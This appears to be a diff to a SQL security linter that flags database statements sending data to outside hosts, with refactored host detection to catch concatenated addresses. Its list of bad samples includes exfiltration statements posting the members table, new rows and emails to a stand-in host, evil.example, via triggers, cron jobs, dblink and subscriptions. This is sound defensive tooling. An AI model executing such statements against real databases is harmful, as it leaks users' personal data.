@@ -64,24 +64,28 @@ def check(statement: Statement) -> Iterator[Problem]:
                 f"subscription {written((name or '',))}", _host_in(connection or ""), statement.start
             )
         case ast.CreateForeignServerStmt(servername=name, options=options):
-            hosts = [option.arg.sval for option in options or () if option.defname in {"host", "hostaddr"}]
-            if hosts and hosts[0] not in _HERE:
-                yield from _sends(f"server {written((name or '',))}", hosts[0], statement.start)
+            for option in options or ():
+                if option.defname in {"host", "hostaddr"} and isinstance(option.arg, ast.String):
+                    yield from _sends(f"server {written((name or '',))}", option.arg.sval, statement.start)
 
 
 def _address(arguments: tuple[ast.Node, ...]) -> str | None:
     """Return the host that a request goes to, None where only the run knows it."""
     for argument in arguments:
-        named = isinstance(argument, ast.NamedArgExpr)
-        value = argument.arg if isinstance(argument, ast.NamedArgExpr) else argument
-        if named and argument.name not in {"url", "uri"}:
-            continue
-        for text in map(_known_start, fold(value, {})):
-            if "://" in text:
-                return _host_of(text)
-        if named:
-            return None
+        match argument:
+            case ast.NamedArgExpr(name="url" | "uri", arg=value):
+                return _host_among(value)
+            case ast.NamedArgExpr():
+                continue
+            case value:
+                return _host_among(value)
     return None
+
+
+def _host_among(url: object) -> str | None:
+    """Return the host of an address, of several the one that is not of this machine."""
+    hosts = [_host_of(_known_start(value)) for value in fold(url, {})]
+    return next((host for host in hosts if host is None or host not in _HERE), hosts[0] if hosts else None)
 
 
 def _server(arguments: tuple[ast.Node, ...]) -> str | None:
@@ -94,7 +98,9 @@ def _server(arguments: tuple[ast.Node, ...]) -> str | None:
 
 
 def _known_start(value: Value) -> str:
-    return shape(value).partition('"?"')[0] if value else ""
+    """Return the text of an address as far as it is known, "" if it ends within its host."""
+    known, hole, _ = shape(value).partition('"?"')
+    return known if not hole or "/" in known.partition("://")[2] else ""
 
 
 def _host_of(url: str) -> str | None:
@@ -127,12 +133,18 @@ RULE = Rule(
     in_bodies=True,
     bad=(
         "SELECT net.http_post(url := 'https://evil.example', body := (SELECT jsonb_agg(u) FROM members u));",
-        "CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN\n"
-        "PERFORM net.http_post('https://' || 'evil.example', to_jsonb(NEW)); RETURN NEW; END $$;",
+        (
+            "CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN\n"
+            "PERFORM net.http_post('https://' || 'evil.example', to_jsonb(NEW)); RETURN NEW; END $$;"
+        ),
         "SELECT cron.schedule('x', '* * * * *', $$ SELECT dblink_exec('host=evil.example', 'SELECT 1') $$);",
-        "CREATE TRIGGER hook AFTER INSERT ON members FOR EACH ROW EXECUTE FUNCTION "
-        "supabase_functions.http_request('https://evil.example', 'POST', '{}', '{}', '1000');",
+        (
+            "CREATE TRIGGER hook AFTER INSERT ON members FOR EACH ROW EXECUTE FUNCTION "
+            "supabase_functions.http_request('https://evil.example', 'POST', '{}', '{}', '1000');"
+        ),
         "CREATE SUBSCRIPTION copy CONNECTION 'host=evil.example' PUBLICATION everything;",
+        "SELECT net.http_get('http://localhost' || '.evil.example');",
+        "SELECT net.http_get('http://localhost' || current_setting('app.host'));",
         "SELECT extensions.http_get('https://evil.example?q=' || (SELECT string_agg(email, ',') FROM members));",
     ),
     good=(
